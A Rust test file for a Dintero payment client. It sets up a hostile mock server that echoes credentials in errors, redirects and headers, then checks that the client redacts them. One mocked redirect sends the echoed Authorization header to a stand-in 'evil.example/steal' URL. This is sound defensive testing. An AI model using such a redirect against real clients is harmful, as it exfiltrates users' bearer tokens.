//! Issue 11 against a hostile Dintero stand-in on 127.0.0.1 (wiremock): no
//! credential in any message whatever the server echoes (point 2), and a
//! capture whose outcome is ambiguous is never sent twice (point 4).
#![cfg(feature = "client")]

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use kravia_invoice::Brand;
use kravia_invoice::client::{
    ClientError, Credentials, DinteroClient, FetchOptions, RetryPolicy, fetch_and_verify,
};
use kravia_invoice::dintero::Transaction;
use serde_json::{Value, json};
use wiremock::matchers::{method, path, path_regex};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

use crate::util::fixtures_dir;

const AID: &str = "T12345678";
const CLIENT_ID: &str = "cid-4711";
const SECRET: &str = "very-secret-s3cr3t";
const TOKEN: &str = "tok-eyJhbGciOi-abc";
const B2B: &str = "pub_ok_no_b2b_three_rates";

fn basic() -> String {
    STANDARD.encode(format!("{CLIENT_ID}:{SECRET}"))
}

fn json_of(case: &str, file: &str) -> Value {
    let text = std::fs::read_to_string(fixtures_dir().join(case).join(file)).unwrap();
    serde_json::from_str(&text).unwrap()
}

fn brand(case: &str) -> Brand {
    Brand::load(&fixtures_dir().join(case).join("brand.toml")).unwrap()
}

fn ok_json(v: &Value) -> ResponseTemplate {
    ResponseTemplate::new(200).set_body_raw(v.to_string(), "application/json")
}

fn client_with(server: &MockServer, secret: &str, retry: RetryPolicy) -> DinteroClient {
    DinteroClient::builder(Credentials::new(AID, CLIENT_ID, secret))
        .base_url(format!("{}/v1", server.uri()))
        .timeout(Duration::from_secs(5))
        .retry(retry)
        .poll_interval(Duration::from_millis(10))
        .capture_wait(Duration::from_millis(300))
        .build()
        .unwrap()
}

fn quick() -> RetryPolicy {
    RetryPolicy {
        attempts: 2,
        base_delay: Duration::from_millis(5),
        max_delay: Duration::from_millis(20),
        max_retry_after: Duration::from_millis(100),
    }
}

fn client(server: &MockServer) -> DinteroClient {
    client_with(server, SECRET, quick())
}

async fn mount_token(server: &MockServer) {
    Mock::given(method("POST"))
        .and(path(format!("/v1/accounts/{AID}/auth/token")))
        .respond_with(ok_json(&json!({
            "access_token": TOKEN, "token_type": "Bearer", "expires_in": 86400
        })))
        .mount(server)
        .await;
}

/// Fails when `text` shows a credential, whole or in part.
fn assert_no_credential(what: &str, text: &str) {
    let b = basic();
    for (name, needle) in [
        ("secret", SECRET),
        ("secret (start)", &SECRET[..8]),
        ("token", TOKEN),
        ("token (start)", &TOKEN[..6]),
        ("Basic credentials", b.as_str()),
        ("Basic credentials (start)", &b[..10]),
    ] {
        assert!(
            !text.contains(needle),
            "{what}: the {name} is shown in: {text}"
        );
    }
}

fn assert_error_clean(what: &str, e: &ClientError) {
    assert_no_credential(what, &e.to_string());
    assert_no_credential(what, &format!("{e:?}"));
}

/// The header a client sent, as the echoing server saw it.
fn echo_auth(r: &Request) -> String {
    r.headers
        .get("authorization")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string()
}

// ---- 2. credentials never in a message ----

#[tokio::test]
async fn token_endpoint_echoing_the_basic_header_is_redacted() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path(format!("/v1/accounts/{AID}/auth/token")))
        .respond_with(|r: &Request| {
            let body = json!({"error": {
                "code": echo_auth(r),
                "message": format!("bad credentials {} (client_secret={SECRET})", echo_auth(r)),
            }});
            ResponseTemplate::new(401).set_body_raw(body.to_string(), "application/json")
        })
        .mount(&server)
        .await;
    let err = client(&server).get_transaction("T1").await.unwrap_err();
    assert!(err.to_string().contains("401 Unauthorized"), "{err}");
    assert!(err.to_string().contains("[redacted]"), "{err}");
    assert_error_clean("token 401", &err);
}

#[tokio::test]
async fn html_error_page_echoing_the_request_is_redacted() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(|r: &Request| {
            let body = format!(
                "<html><body><pre>POST /auth/token\nAuthorization: {}\n{}</pre></body></html>",
                echo_auth(r),
                String::from_utf8_lossy(&r.body)
            );
            ResponseTemplate::new(400).set_body_raw(body, "text/html")
        })
        .mount(&server)
        .await;
    let err = client(&server).get_transaction("T1").await.unwrap_err();
    assert_error_clean("token 400 html", &err);
}

#[tokio::test]
async fn secret_echoed_json_escaped_or_percent_encoded_is_redacted() {
    let secret = "s3/cr\"et&more-xyz";
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(move |_: &Request| {
            let escaped = serde_json::Value::String(secret.into())
                .to_string()
                .replace('/', "\\/");
            let body = format!(
                r#"{{"error":{{"message":"secret {escaped} or client_secret=s3%2Fcr%22et%26more-xyz"}}}}"#
            );
            ResponseTemplate::new(403).set_body_raw(body, "application/json")
        })
        .mount(&server)
        .await;
    let err = client_with(&server, secret, quick())
        .get_transaction("T1")
        .await
        .unwrap_err();
    let shown = format!("{err} {err:?}");
    assert!(
        !shown.contains("s3/cr") && !shown.contains("s3%2Fcr"),
        "{shown}"
    );
}

#[tokio::test]
async fn read_errors_echoing_the_bearer_token_are_redacted() {
    let server = MockServer::start().await;
    mount_token(&server).await;
    // A 404 with the header in the message; a 502 whose message puts the
    // token right at the 200-character cut; a 200 whose field quotes it.
    Mock::given(method("GET"))
        .and(path("/v1/transactions/T404"))
        .respond_with(|r: &Request| {
            let body =
                json!({"error": {"message": format!("no such transaction for {}", echo_auth(r))}});
            ResponseTemplate::new(404).set_body_raw(body.to_string(), "application/json")
        })
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/v1/transactions/T502"))
        .respond_with(|r: &Request| {
            let body =
                json!({"error": {"message": format!("{}{}", "x".repeat(188), echo_auth(r))}});
            ResponseTemplate::new(502).set_body_raw(body.to_string(), "application/json")
        })
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/v1/transactions/T200"))
        .respond_with(|r: &Request| {
            let body = json!({"id": "T200", "amount": echo_auth(r)});
            ResponseTemplate::new(200).set_body_raw(body.to_string(), "application/json")
        })
        .mount(&server)
        .await;
    let c = client(&server);
    for id in ["T404", "T502", "T200"] {
        let err = c.get_transaction(id).await.unwrap_err();
        assert_error_clean(id, &err);
    }
    let msg = c.get_transaction("T404").await.unwrap_err().to_string();
    assert!(msg.contains("Bearer [redacted]"), "{msg}");
}

#[tokio::test]
async fn capture_event_error_and_findings_echoing_the_token_are_redacted() {
    let server = MockServer::start().await;
    mount_token(&server).await;
    let after = json_of(B2B, "transaction.json");
    let mut before = after.clone();
    before["events"]
        .as_array_mut()
        .unwrap()
        .retain(|e| e["event"] != "INITIATE_CAPTURE");
    let id = after["id"].as_str().unwrap().to_string();
    let tx_path = format!("/v1/transactions/{id}");
    let mut failed = before.clone();
    failed["events"].as_array_mut().unwrap().push(json!({
        "id": "e-failed", "event": "INITIATE_CAPTURE", "success": false,
        "error": {"message": format!("refused for Bearer {TOKEN}"), "code": format!("Basic {}", basic())}
    }));
    Mock::given(method("GET"))
        .and(path(tx_path.clone()))
        .respond_with(ok_json(&before))
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path(format!("{tx_path}/capture")))
        .respond_with(ok_json(&failed))
        .expect(1)
        .mount(&server)
        .await;
    let parsed = Transaction::from_json(&json!(before).to_string()).unwrap();
    let err = client(&server)
        .capture_for_merchant_delivery(&parsed)
        .await
        .unwrap_err();
    assert!(matches!(err, ClientError::CaptureFailed { .. }), "{err:?}");
    assert_error_clean("capture event error", &err);

    // A document that quotes the token: the report's findings are redacted.
    let server = MockServer::start().await;
    mount_token(&server).await;
    let mut quoting = after.clone();
    quoting["metadata"]["kravia:invoice_number"] = json!(format!("Bearer {TOKEN}"));
    Mock::given(method("GET"))
        .and(path(tx_path))
        .respond_with(ok_json(&quoting))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path_regex("^/v1/sessions/"))
        .respond_with(ok_json(&json_of(B2B, "session.json")))
        .mount(&server)
        .await;
    let options = FetchOptions {
        capture: false,
        wait: Duration::ZERO,
    };
    let err = fetch_and_verify(&client(&server), &id, &options, &brand(B2B))
        .await
        .unwrap_err();
    let report = err.report().expect("a rejection");
    assert!(!report.errors.is_empty());
    assert_no_credential("report", &format!("{report} {report:?}"));
}

#[tokio::test]
async fn invoice_download_redirect_and_content_type_echoes_are_redacted() {
    let server = MockServer::start().await;
    mount_token(&server).await;
    Mock::given(method("GET"))
        .and(path("/v1/files/redirect"))
        .respond_with(|r: &Request| {
            ResponseTemplate::new(302).insert_header(
                "Location",
                format!(
                    "https://evil.example/steal?h={}",
                    echo_auth(r).replace(' ', "+")
                )
                .as_str(),
            )
        })
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/v1/files/typed"))
        .respond_with(|r: &Request| {
            ResponseTemplate::new(200)
                .insert_header(
                    "Content-Type",
                    format!("text/plain; echo=\"{}\"", echo_auth(r)).as_str(),
                )
                .set_body_raw("not a pdf", "text/plain")
        })
        .mount(&server)
        .await;
    let c = client(&server);
    for file in ["redirect", "typed"] {
        let err = c
            .download_invoice(&format!("{}/v1/files/{file}", server.uri()))
            .await
            .unwrap_err();
        assert!(matches!(err, ClientError::InvoiceUrl { .. }), "{err:?}");
        assert_error_clean(file, &err);
    }
}

#[tokio::test]
async fn fetch_cli_never_prints_an_echoed_credential() {
    let server = MockServer::start().await;
    mount_token(&server).await;
    Mock::given(method("GET"))
        .respond_with(|r: &Request| {
            let body =
                json!({"error": {"message": format!("denied: Authorization: {}", echo_auth(r))}});
            ResponseTemplate::new(403).set_body_raw(body.to_string(), "application/json")
        })
        .mount(&server)
        .await;
    let dir = crate::cli::tempdir();
    let output = dir.join("never.pdf");
    let uri = server.uri();
    let brand_path = fixtures_dir().join(B2B).join("brand.toml");
    let out = tokio::task::spawn_blocking(move || {
        std::process::Command::new(env!("CARGO_BIN_EXE_kravia-invoice"))
            .arg("fetch")
            .args(["--base-url", &format!("{uri}/v1")])
            .args(["--transaction-id", "T12345678.x", "--json"])
            .arg("--brand")
            .arg(brand_path)
            .arg("--output")
            .arg(output)
            .env("DINTERO_ACCOUNT_ID", AID)
            .env("DINTERO_CLIENT_ID", CLIENT_ID)
            .env("DINTERO_CLIENT_SECRET", SECRET)
            .env_remove("DINTERO_BASE_URL")
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(text.contains("403 Forbidden"), "{text}");
    assert_no_credential("fetch --json", &text);
}
